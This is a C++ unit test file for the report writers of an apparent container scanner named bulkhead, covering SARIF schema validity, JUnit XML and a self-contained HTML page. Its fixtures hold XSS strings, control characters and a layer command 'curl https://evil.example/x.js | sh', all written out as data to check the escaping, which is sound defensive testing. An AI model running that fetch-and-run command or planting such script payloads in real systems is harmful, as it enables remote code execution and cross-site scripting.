// SARIF, JUnit and HTML writers: determinism, validity against the official SARIF schema,
// well-formed XML, a self-contained page, and hostile strings (markup, quotes, control
// characters, invalid UTF-8) that must come out as inert text.
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <algorithm>
#include <cstdio>
#include <map>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "bulkhead/report/writer.h"
#include "tests/testing/test_util.h"

namespace bulkhead::report {
namespace {

using Json = nlohmann::json;
using ::bulkhead::testing::SharedDataDir;
using ::bulkhead::testing::TempDir;

const std::string kLayer1 =
    "sha256:1111111111111111111111111111111111111111111111111111111111111111";
const std::string kLayer2 =
    "sha256:2222222222222222222222222222222222222222222222222222222222222222";
const std::string kLayer3 =
    "sha256:3333333333333333333333333333333333333333333333333333333333333333";
const std::string kStrayLayer =
    "sha256:9999999999999999999999999999999999999999999999999999999999999999";
const std::string kScript = "<script>alert(1)</script>";
const std::string kHostileName = "oci:./img" + kScript + "&\"'";
const std::string kHostilePath = "/app/" + kScript + ".txt";
const std::string kControlPath = "/tmp/ctl\x01\x02\x1b[31mred\x7f";
const std::string kBadUtf8Path = "/bad/\xff\xfe-\xc3-\xed\xa0\x80-end";

constexpr Severity kAllSeverities[] = {Severity::kCritical, Severity::kHigh, Severity::kMedium,
                                       Severity::kLow, Severity::kUnknown};
constexpr FindingKind kAllKinds[] = {FindingKind::kVulnerability, FindingKind::kSecret,
                                     FindingKind::kMalware, FindingKind::kMisconfiguration};

Finding MakeFinding(std::string id, FindingKind kind, Severity severity, std::string title) {
  Finding f;
  f.id = std::move(id);
  f.kind = kind;
  f.severity = severity;
  f.title = std::move(title);
  return f;
}

// Findings of every kind and severity, in three layers, a layer the image does not list and
// no layer; the same id several times; k8s objects; hostile strings wherever a string goes.
Report MakeHostileReport() {
  Report r;
  r.target.name = kHostileName;
  r.target.kind = "image";
  r.target.digest = "sha256:5b0c4a3ae8a44b0a6c1f8b5e3a9f0c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b";
  r.target.architecture = "amd64";
  r.target.os_name = "linux";
  r.target.os = {"alpine", "3.19.1", "Alpine Linux v3.19 <b>bold</b>"};
  r.target.repo_tags = {"registry.example/app:1.0"};
  r.layers.push_back({kLayer1, kLayer1, "application/vnd.oci.image.layer.v1.tar+gzip", 3 << 20,
                      "/bin/sh -c #(nop) ADD file:abc in / "});
  r.layers.push_back({kLayer2, kLayer2, "application/vnd.oci.image.layer.v1.tar+gzip", 2048,
                      "RUN echo '<b>' && curl https://evil.example/x.js | sh"});
  r.layers.push_back(
      {kLayer3, kLayer3, "application/vnd.oci.image.layer.v1.tar", 10, "RUN touch \x01\x02 \xff"});

  Package musl;
  musl.name = "musl";
  musl.version = "1.2.4-r2";
  musl.type = "apk";
  musl.source_name = "musl";
  musl.source_version = "1.2.4-r2";
  musl.purl = "pkg:apk/alpine/musl@1.2.4-r2?arch=x86_64&distro=3.19.1";
  musl.layer = kLayer1;
  r.packages.push_back(musl);
  Package evil = musl;
  evil.name = "evil" + kScript;
  evil.purl = "pkg:apk/alpine/evil@1?x=\"&y='";
  evil.layer = kLayer2;
  r.packages.push_back(evil);

  const std::string layers[] = {kLayer1, kLayer2, kLayer3, kStrayLayer, ""};
  int n = 0;
  for (FindingKind kind : kAllKinds) {
    for (Severity severity : kAllSeverities) {
      const std::string kind_name(FindingKindName(kind));
      Finding f = MakeFinding(kind_name + "-" + std::string(SeverityName(severity)), kind, severity,
                              "A " + kind_name + " finding");
      f.layer = layers[n % 5];
      f.controls = {kind == FindingKind::kVulnerability ? "4.1.1" : "4.1.2"};
      if (kind == FindingKind::kVulnerability) {
        f.package = PackageRef{"musl", "1.2.4-r2", musl.purl};
        f.references = {"https://security.example/" + f.id, "not a url"};
      } else {
        f.path = "/etc/file" + std::to_string(n);
        f.line = n % 2 ? n : 0;
      }
      r.findings.push_back(f);
      ++n;
    }
  }
  Finding hostile = MakeFinding("BH-SECRET-1", FindingKind::kSecret, Severity::kHigh,
                                "Secret in " + kScript + " & \"quotes\" 'single'");
  hostile.path = kHostilePath;
  hostile.line = 7;
  hostile.layer = kLayer2;
  hostile.controls = {"4.1.4"};
  hostile.description = "Keys <em>in</em> images leak.";
  hostile.remediation = "Remove the key & rotate it.";
  r.findings.push_back(hostile);
  Finding again = hostile;  // the same id twice more, with other locations and titles
  again.path = kControlPath;
  again.title = "Secret in a file with control characters";
  r.findings.push_back(again);
  again.path = kBadUtf8Path;
  again.line = 0;
  again.layer = kLayer3;
  again.title = "Secret in a file with invalid UTF-8 \xff";
  r.findings.push_back(again);
  Finding k8s = MakeFinding("KSV001", FindingKind::kMisconfiguration, Severity::kMedium,
                            "Process can elevate its own privileges");
  k8s.object = "Deployment/default/web" + kScript;
  r.findings.push_back(k8s);

  r.controls.push_back({"4.1.1", "Image vulnerabilities", ControlStatus::kFail, {"x"}, 5});
  r.controls.push_back({"4.1.2", "Image configuration defects", ControlStatus::kFail, {"y"}, 16});
  r.controls.push_back({"4.1.3", "Embedded <malware> & \"friends\"", ControlStatus::kPass});
  r.controls.push_back({"4.1.4", "Embedded clear text secrets", ControlStatus::kFail, {}, 3});
  r.controls.push_back({"4.1.5", "Use of untrusted images", ControlStatus::kNotAssessed});
  r.controls.push_back({"4.2.1", "Inadequate authentication", ControlStatus::kNotAssessed});
  r.diagnostics.push_back({kLayer2, kHostilePath, "walk", "cannot read " + kScript + "\x01"});
  r.diagnostics.push_back({"", "", "config", "no history"});
  r.Sort();
  return r;
}

Report MakeEmptyReport() {
  Report r;
  r.target.name = "rootfs:/";
  r.target.kind = "rootfs";
  return r;
}

std::string Write(Format format, const Report& report, WriteOptions options = {}) {
  std::ostringstream out;
  EXPECT_TRUE(WriteReport(report, format, options, out).ok());
  return out.str();
}

using ::bulkhead::testing::RunCommand;

bool HavePython() {
  int status = 0;
  RunCommand("python3 -c 'import xml.dom.minidom' 2>&1", &status);
  return status == 0;
}

// True when every byte sequence is well-formed UTF-8 and no C0 control other than tab and
// newline is left, nor DEL unless `allow_del` (JSON has no need to escape it).
bool CleanUtf8(const std::string& s, bool allow_del = false) {
  for (size_t i = 0; i < s.size();) {
    const auto c = static_cast<unsigned char>(s[i]);
    if (c < 0x80) {
      if ((c < 0x20 && c != '\t' && c != '\n') || (c == 0x7f && !allow_del)) return false;
      ++i;
      continue;
    }
    size_t len = (c & 0xE0) == 0xC0 ? 2 : (c & 0xF0) == 0xE0 ? 3 : (c & 0xF8) == 0xF0 ? 4 : 0;
    if (len == 0 || i + len > s.size()) return false;
    for (size_t k = 1; k < len; ++k) {
      if ((static_cast<unsigned char>(s[i + k]) & 0xC0) != 0x80) return false;
    }
    i += len;
  }
  return true;
}

// --- Formats, determinism, escaping ---------------------------------------------------------

TEST(FormatsTest, ParseFormatNames) {
  EXPECT_EQ(*ParseFormat("sarif"), Format::kSarif);
  EXPECT_EQ(*ParseFormat("junit"), Format::kJunit);
  EXPECT_EQ(*ParseFormat("html"), Format::kHtml);
  Result<Format> bad = ParseFormat("xml");
  ASSERT_FALSE(bad.ok());
  for (const char* name : {"table", "json", "cyclonedx", "spdx", "sarif", "junit", "html"}) {
    EXPECT_NE(bad.error().message().find(name), std::string_view::npos) << name;
  }
}

TEST(FormatsTest, SameReportSameBytes) {
  for (Format f : {Format::kSarif, Format::kJunit, Format::kHtml}) {
    const std::string a = Write(f, MakeHostileReport());
    const std::string b = Write(f, MakeHostileReport());
    EXPECT_GT(a.size(), 1000u);
    EXPECT_EQ(a, b) << "format " << static_cast<int>(f);
    // The order findings arrive in does not matter once the report is sorted.
    Report shuffled = MakeHostileReport();
    std::reverse(shuffled.findings.begin(), shuffled.findings.end());
    std::rotate(shuffled.diagnostics.begin(), shuffled.diagnostics.begin() + 1,
                shuffled.diagnostics.end());
    shuffled.Sort();
    EXPECT_EQ(a, Write(f, shuffled)) << "format " << static_cast<int>(f);
  }
}

TEST(FormatsTest, EmptyReportWritesEveryFormat) {
  for (Format f : {Format::kSarif, Format::kJunit, Format::kHtml}) {
    EXPECT_FALSE(Write(f, MakeEmptyReport()).empty());
  }
}

TEST(EscapeMarkupTest, MarkupAndQuotes) {
  EXPECT_EQ(EscapeMarkup(kScript), "&lt;script&gt;alert(1)&lt;/script&gt;");
  EXPECT_EQ(EscapeMarkup("a&b \"c\" 'd'"), "a&amp;b &quot;c&quot; &#39;d&#39;");
  EXPECT_EQ(EscapeMarkup("&amp;"), "&amp;amp;");
  EXPECT_EQ(EscapeMarkup(""), "");
}

TEST(EscapeMarkupTest, ControlCharactersAreDroppedWhitespaceKept) {
  EXPECT_EQ(EscapeMarkup(std::string("a\x00"
                                     "b\x01\x1b[0m\x7f",
                                     9)),
            "ab[0m");
  EXPECT_EQ(EscapeMarkup("\xc2\x85\xc2\x9f"
                         "c"),
            "c");  // C1 controls
  EXPECT_EQ(EscapeMarkup("\xef\xbf\xbe\xef\xbf\xbf"
                         "d"),
            "d");  // U+FFFE, U+FFFF
  EXPECT_EQ(EscapeMarkup("t\tn\nr\r"), "t\tn\nr&#13;");
  EXPECT_EQ(EscapeMarkup("t\tn\nr\r", true), "t&#9;n&#10;r&#13;");
}

TEST(EscapeMarkupTest, InvalidUtf8BecomesReplacementCharacters) {
  const std::string fffd = "\xef\xbf\xbd";
  EXPECT_EQ(EscapeMarkup("\xff"), fffd);
  EXPECT_EQ(EscapeMarkup("a\xc3"), "a" + fffd);                            // truncated
  EXPECT_EQ(EscapeMarkup("\xc0\xaf"), fffd + fffd);                        // overlong '/'
  EXPECT_EQ(EscapeMarkup("\xed\xa0\x80"), fffd + fffd + fffd);             // a surrogate
  EXPECT_EQ(EscapeMarkup("\xf4\x90\x80\x80"), fffd + fffd + fffd + fffd);  // > U+10FFFF
  // Valid multi-byte text passes untouched.
  EXPECT_EQ(EscapeMarkup("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xb3"),
            "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xb3");
}

// --- SARIF ------------------------------------------------------------------------------------

TEST(SarifWriterTest, RunToolAndRules) {
  WriteOptions options;
  options.tool_version = "1.2.3";
  const Report report = MakeHostileReport();
  Json log = Json::parse(Write(Format::kSarif, report, options));
  EXPECT_EQ(log["version"], "2.1.0");
  ASSERT_EQ(log["runs"].size(), 1u);
  const Json& run = log["runs"][0];
  const Json& driver = run["tool"]["driver"];
  EXPECT_EQ(driver["name"], "bulkhead");
  EXPECT_EQ(driver["version"], "1.2.3");
  EXPECT_TRUE(driver["informationUri"].is_string());
  std::set<std::string> ids;
  for (const Finding& f : report.findings) ids.insert(f.id);
  ASSERT_EQ(driver["rules"].size(), ids.size());
  std::vector<std::string> rule_ids;
  for (const Json& rule : driver["rules"]) rule_ids.push_back(rule["id"]);
  EXPECT_TRUE(std::is_sorted(rule_ids.begin(), rule_ids.end()));
  const std::map<std::string, std::pair<std::string, std::string>> expected = {
      {"CRITICAL", {"error", "9.5"}},
      {"HIGH", {"error", "8.0"}},
      {"MEDIUM", {"warning", "5.5"}},
      {"LOW", {"note", "2.0"}},
      {"UNKNOWN", {"note", ""}}};
  for (const Json& rule : driver["rules"]) {
    const Json& props = rule["properties"];
    const auto& [level, score] = expected.at(props["severity"].get<std::string>());
    EXPECT_EQ(rule["defaultConfiguration"]["level"], level) << rule.dump();
    if (score.empty()) {
      EXPECT_FALSE(props.contains("security-severity")) << rule.dump();
    } else {
      EXPECT_EQ(props["security-severity"], score) << rule.dump();
    }
    EXPECT_FALSE(rule["shortDescription"]["text"].get<std::string>().empty());
    EXPECT_TRUE(props["nist-800-190"].is_array());
    EXPECT_NE(std::find(props["tags"].begin(), props["tags"].end(), "security"),
              props["tags"].end());
  }
  auto rule = [&](const std::string& id) -> const Json& {
    return driver["rules"][static_cast<size_t>(std::find(rule_ids.begin(), rule_ids.end(), id) -
                                               rule_ids.begin())];
  };
  const Json& secret = rule("BH-SECRET-1");
  EXPECT_EQ(secret["properties"]["nist-800-190"], Json::array({"4.1.4"}));
  EXPECT_EQ(secret["fullDescription"]["text"], "Keys <em>in</em> images leak.");
  EXPECT_NE(secret["help"]["text"].get<std::string>().find("Remove the key"), std::string::npos);
  const Json& vuln = rule("vulnerability-HIGH");
  EXPECT_EQ(vuln["helpUri"], "https://security.example/vulnerability-HIGH");
}

TEST(SarifWriterTest, ResultsLocationsAndFingerprints) {
  const Report report = MakeHostileReport();
  Json log = Json::parse(Write(Format::kSarif, report));
  const Json& run = log["runs"][0];
  const Json& rules = run["tool"]["driver"]["rules"];
  const Json& results = run["results"];
  ASSERT_EQ(results.size(), report.findings.size());
  const std::regex relative_uri("[A-Za-z0-9._~!$&()*+,;=@/%-]+");
  std::set<std::string> fingerprints;
  for (size_t i = 0; i < results.size(); ++i) {
    const Json& res = results[i];
    const Finding& f = report.findings[i];
    EXPECT_EQ(res["ruleId"], f.id);
    EXPECT_EQ(rules[res["ruleIndex"].get<size_t>()]["id"], f.id);
    EXPECT_EQ(res["level"], rules[res["ruleIndex"].get<size_t>()]["defaultConfiguration"]["level"]);
    EXPECT_FALSE(res["message"]["text"].get<std::string>().empty());
    ASSERT_EQ(res["locations"].size(), 1u);
    const Json& physical = res["locations"][0]["physicalLocation"];
    const std::string uri = physical["artifactLocation"]["uri"];
    EXPECT_TRUE(std::regex_match(uri, relative_uri)) << uri;
    EXPECT_NE(uri.front(), '/');
    EXPECT_EQ(physical["region"]["startLine"], f.line > 0 ? f.line : 1);
    if (!f.object.empty()) {
      EXPECT_EQ(res["locations"][0]["logicalLocations"][0]["fullyQualifiedName"], f.object);
    }
    const std::string fp = res["partialFingerprints"]["bulkhead/v1"];
    EXPECT_EQ(fp.size(), 64u);
    fingerprints.insert(fp);
    EXPECT_EQ(res["properties"].contains("layer"), !f.layer.empty());
    EXPECT_EQ(res["properties"].contains("package"), f.package.has_value());
  }
  EXPECT_EQ(fingerprints.size(), results.size());
  // Paths lose the leading '/' and are percent-encoded; no path means the image's name.
  std::set<std::string> uris;
  for (const Json& res : results)
    uris.insert(res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]);
  EXPECT_TRUE(uris.count("app/%3Cscript%3Ealert(1)%3C/script%3E.txt"));
  EXPECT_TRUE(uris.count("tmp/ctl%01%02%1B%5B31mred%7F"));
  EXPECT_TRUE(uris.count("bad/%FF%FE-%C3-%ED%A0%80-end"));
  EXPECT_TRUE(uris.count("oci%3A./img%3Cscript%3Ealert(1)%3C/script%3E&%22%27"));
}

TEST(SarifWriterTest, FingerprintIgnoresLayerAndPackageVersion) {
  Report a = MakeHostileReport();
  Report b = MakeHostileReport();
  for (Finding& f : b.findings) {
    f.layer = kLayer1;
    if (f.package) f.package->version = "9.9.9-r0";
  }
  Json ra = Json::parse(Write(Format::kSarif, a))["runs"][0]["results"];
  Json rb = Json::parse(Write(Format::kSarif, b))["runs"][0]["results"];
  ASSERT_EQ(ra.size(), rb.size());
  for (size_t i = 0; i < ra.size(); ++i) {
    EXPECT_EQ(ra[i]["partialFingerprints"], rb[i]["partialFingerprints"]) << i;
  }
}

TEST(SarifWriterTest, DiagnosticsAreToolNotifications) {
  Json log = Json::parse(Write(Format::kSarif, MakeHostileReport()));
  const Json& notes = log["runs"][0]["invocations"][0]["toolExecutionNotifications"];
  ASSERT_EQ(notes.size(), 2u);
  EXPECT_EQ(log["runs"][0]["invocations"][0]["executionSuccessful"], true);
}

TEST(SarifWriterTest, InvalidUtf8IsReplaced) {
  const std::string out = Write(Format::kSarif, MakeHostileReport());
  EXPECT_NO_THROW(Json::parse(out));
  EXPECT_NE(out.find("invalid UTF-8 \xef\xbf\xbd"), std::string::npos);
  EXPECT_TRUE(CleanUtf8(out, /*allow_del=*/true));
}

#define EXPECT_VALID_SARIF(document)                                                              \
  do {                                                                                            \
    TempDir dir_;                                                                                 \
    const std::string file_ = dir_.WriteFile("log.sarif", (document));                            \
    int status_ = 0;                                                                              \
    const std::string log_ = RunCommand(                                                          \
        "python3 '" + std::string(BULKHEAD_TESTDATA) + "/../scripts/validate_json_schema.py' '" + \
            SharedDataDir() + "/schemas/sarif/sarif-schema-2.1.0.json' '" + file_ + "' 2>&1",     \
        &status_);                                                                                \
    if (status_ != 0 && status_ != 1) GTEST_SKIP() << "the validator could not run: " << log_;    \
    EXPECT_EQ(status_, 0) << log_;                                                                \
  } while (0)

TEST(SarifWriterTest, ValidAgainstTheOfficialSchema) {
  BULKHEAD_REQUIRE_SHARED_DATA();
  EXPECT_VALID_SARIF(Write(Format::kSarif, MakeHostileReport()));
  EXPECT_VALID_SARIF(Write(Format::kSarif, MakeEmptyReport()));
}

TEST(SarifWriterTest, SchemaCheckCatchesAnInvalidLog) {
  BULKHEAD_REQUIRE_SHARED_DATA();
  Json log = Json::parse(Write(Format::kSarif, MakeHostileReport()));
  log["runs"][0]["results"][0]["level"] = "fatal";
  log["runs"][0]["results"][1]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0;
  TempDir dir;
  const std::string file = dir.WriteFile("bad.sarif", log.dump());
  int status = 0;
  const std::string out = RunCommand(
      "python3 '" + std::string(BULKHEAD_TESTDATA) + "/../scripts/validate_json_schema.py' '" +
          SharedDataDir() + "/schemas/sarif/sarif-schema-2.1.0.json' '" + file + "' 2>&1",
      &status);
  if (status != 0 && status != 1) GTEST_SKIP() << "the validator could not run: " << out;
  EXPECT_EQ(status, 1) << out;
  EXPECT_NE(out.find("fatal"), std::string::npos) << out;
}

// --- JUnit ------------------------------------------------------------------------------------

// Parses `xml` with Python's expat-based minidom and prints the counts the test needs.
std::string JunitSummary(const std::string& xml, int* status) {
  TempDir dir;
  const std::string file = dir.WriteFile("junit.xml", xml);
  const std::string script =
      "import sys, xml.dom.minidom as m\n"
      "d = m.parse(sys.argv[1])\n"
      "s = d.getElementsByTagName('testsuite')[0]\n"
      "print(len(d.getElementsByTagName('testcase')), len(d.getElementsByTagName('failure')),\n"
      "      len(d.getElementsByTagName('skipped')), s.getAttribute('tests'),\n"
      "      s.getAttribute('failures'), s.getAttribute('skipped'))\n"
      "sys.stdout.buffer.write(s.getAttribute('name').encode('utf-8') + b'\\n')\n"
      "for c in d.getElementsByTagName('testcase'):\n"
      "    f = c.getElementsByTagName('failure')\n"
      "    if f and c.getAttribute('name').startswith('BH-SECRET-1'):\n"
      "        sys.stdout.buffer.write(f[0].firstChild.data.encode('utf-8'))\n";
  const std::string py = dir.WriteFile("summary.py", script);
  return RunCommand("python3 '" + py + "' '" + file + "' 2>&1", status);
}

TEST(JunitWriterTest, ParsesWithTheExpectedCounts) {
  if (!HavePython()) GTEST_SKIP() << "python3 is not available to parse the XML";
  const Report report = MakeHostileReport();
  std::set<std::string> ids;
  for (const Finding& f : report.findings) ids.insert(f.id);
  const std::string xml = Write(Format::kJunit, report);
  EXPECT_TRUE(CleanUtf8(xml));
  int status = 0;
  const std::string out = JunitSummary(xml, &status);
  ASSERT_EQ(status, 0) << out << "\n" << xml;
  // 6 controls (3 fail, 1 pass, 2 not assessed) and one failed case per distinct id.
  const size_t tests = 6 + ids.size();
  const size_t failures = 3 + ids.size();
  std::ostringstream counts;
  counts << tests << " " << failures << " 2 " << tests << " " << failures << " 2\n";
  EXPECT_EQ(out.substr(0, out.find('\n') + 1), counts.str()) << out;
  // The hostile name survives as text; control characters are gone.
  std::istringstream lines(out);
  std::string line;
  std::getline(lines, line);
  std::getline(lines, line);
  EXPECT_EQ(line, kHostileName);
  EXPECT_NE(out.find("HIGH BH-SECRET-1: Secret in " + kScript), std::string::npos) << out;
  EXPECT_NE(out.find("/tmp/ctl[31mred"), std::string::npos) << out;
  EXPECT_NE(out.find("/bad/\xef\xbf\xbd\xef\xbf\xbd-"), std::string::npos) << out;
}

TEST(JunitWriterTest, Shape) {
  const std::string xml = Write(Format::kJunit, MakeHostileReport());
  EXPECT_EQ(xml.rfind("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", 0), 0u);
  EXPECT_NE(xml.find("<testcase classname=\"nist-800-190\" name=\"4.1.1 Image vulnerabilities\""),
            std::string::npos);
  EXPECT_NE(xml.find("name=\"4.1.3 Embedded &lt;malware&gt; &amp; &quot;friends&quot;\" "
                     "time=\"0\"/>"),
            std::string::npos)
      << "a passed control is an empty testcase";
  EXPECT_NE(xml.find("<failure message=\"5 findings\" type=\"fail\">"), std::string::npos);
  EXPECT_NE(xml.find("<skipped message=\"not assessed\"/>"), std::string::npos);
  EXPECT_NE(xml.find("<failure message=\"3 occurrences\" type=\"HIGH\">"), std::string::npos);
  EXPECT_NE(xml.find("classname=\"bulkhead.secret\" name=\"BH-SECRET-1\""), std::string::npos)
      << "an id whose titles differ is named by the id alone";
  EXPECT_NE(xml.find("classname=\"bulkhead.misconfiguration\" name=\"KSV001 Process can elevate "
                     "its own privileges\""),
            std::string::npos);
  EXPECT_NE(xml.find("<system-err>"), std::string::npos);
  EXPECT_EQ(xml.find(kScript), std::string::npos);
}

TEST(JunitWriterTest, EmptyReportIsAnEmptySuite) {
  if (!HavePython()) GTEST_SKIP() << "python3 is not available to parse the XML";
  int status = 0;
  const std::string out = JunitSummary(Write(Format::kJunit, MakeEmptyReport()), &status);
  ASSERT_EQ(status, 0) << out;
  EXPECT_EQ(out, "0 0 0 0 0 0\nrootfs:/\n");
}

// --- HTML -------------------------------------------------------------------------------------

TEST(HtmlWriterTest, ReferencesNothingRemote) {
  const std::string html = Write(Format::kHtml, MakeHostileReport());
  // No attribute that loads or links anything outside the page, no CSS import or url().
  const std::regex remote(R"((src|href|srcset|action|poster|data|xlink:href)\s*=\s*["']?\s*)"
                          R"((https?:|//|ftp:|data:|javascript:))",
                          std::regex::icase);
  EXPECT_FALSE(std::regex_search(html, remote));
  for (const char* banned :
       {"@import", "url(", "<link", "<iframe", "<img", "<object", "<embed", "src=", "href="}) {
    EXPECT_EQ(html.find(banned), std::string::npos) << banned;
  }
  // The only "http(s)://" text is the report's own data, escaped inside elements.
  const std::regex bare_url(R"(https?://)");
  for (auto it = std::sregex_iterator(html.begin(), html.end(), bare_url);
       it != std::sregex_iterator(); ++it) {
    const size_t at = static_cast<size_t>(it->position());
    const size_t open = html.rfind('<', at);
    const size_t close = html.rfind('>', at);
    EXPECT_TRUE(close != std::string::npos && close > open)
        << "a URL inside a tag: " << html.substr(open, at - open + 40);
  }
  EXPECT_NE(html.find("default-src 'none'"), std::string::npos);
}

TEST(HtmlWriterTest, HostileStringsAreText) {
  const std::string html = Write(Format::kHtml, MakeHostileReport());
  EXPECT_TRUE(CleanUtf8(html));
  // Exactly one script element: the page's own.
  size_t scripts = 0;
  for (size_t at = html.find("<script"); at != std::string::npos; at = html.find("<script", at + 1))
    ++scripts;
  EXPECT_EQ(scripts, 1u);
  EXPECT_EQ(html.find(kScript), std::string::npos);
  EXPECT_EQ(html.find("<b>"), std::string::npos);
  EXPECT_EQ(html.find("<em>"), std::string::npos);
  EXPECT_NE(html.find("app/&lt;script&gt;alert(1)&lt;/script&gt;.txt:7"), std::string::npos);
  EXPECT_NE(html.find("Secret in &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot; "
                      "&#39;single&#39;"),
            std::string::npos);
  EXPECT_NE(html.find("/tmp/ctl[31mred"), std::string::npos);
  EXPECT_NE(html.find("Embedded &lt;malware&gt; &amp; &quot;friends&quot;"), std::string::npos);
  EXPECT_NE(html.find("oci:./img&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&#39;"),
            std::string::npos);
}

TEST(HtmlWriterTest, Sections) {
  const Report report = MakeHostileReport();
  const std::string html = Write(Format::kHtml, report);
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  for (const char* id : {"id=\"target\"", "id=\"summary\"", "id=\"control-table\"",
                         "id=\"findings\"", "id=\"packages\"", "id=\"diagnostics\"",
                         "id=\"filter-text\"", "<svg class=\"chart\"", "<details>"}) {
    EXPECT_NE(html.find(id), std::string::npos) << id;
  }
  for (const char* sev : {"CRITICAL", "HIGH", "MEDIUM", "LOW", "UNKNOWN"}) {
    EXPECT_NE(html.find("data-sev=\"" + std::string(sev) + "\" checked"), std::string::npos);
  }
  for (const char* status : {"row-pass", "row-fail", "row-not-assessed"}) {
    EXPECT_NE(html.find(status), std::string::npos) << status;
  }
  // One group per layer with findings, in image order, then the unlisted layer, then none.
  const size_t l1 = html.find("Layer 1 <code>" + kLayer1);
  const size_t l2 = html.find("Layer 2 <code>" + kLayer2);
  const size_t l3 = html.find("Layer 3 <code>" + kLayer3);
  const size_t stray = html.find("Layer <code>" + kStrayLayer);
  const size_t none = html.find("Not tied to a layer");
  ASSERT_NE(none, std::string::npos);
  EXPECT_TRUE(l1 < l2 && l2 < l3 && l3 < stray && stray < none) << l1 << " " << l2 << " " << l3;
  size_t rows = 0;
  for (size_t at = html.find("<tr data-sev="); at != std::string::npos;
       at = html.find("<tr data-sev=", at + 1)) {
    ++rows;
  }
  EXPECT_EQ(rows, report.findings.size());
  EXPECT_NE(html.find("Created by <code>RUN echo &#39;&lt;b&gt;&#39; &amp;&amp; curl"),
            std::string::npos);
}

TEST(HtmlWriterTest, EmptyReport) {
  const std::string html = Write(Format::kHtml, MakeEmptyReport());
  EXPECT_NE(html.find("No findings."), std::string::npos);
  EXPECT_NE(html.find("No controls in scope."), std::string::npos);
  EXPECT_EQ(html.find("id=\"filter-text\""), std::string::npos);
}

}  // namespace
}  // namespace bulkhead::report
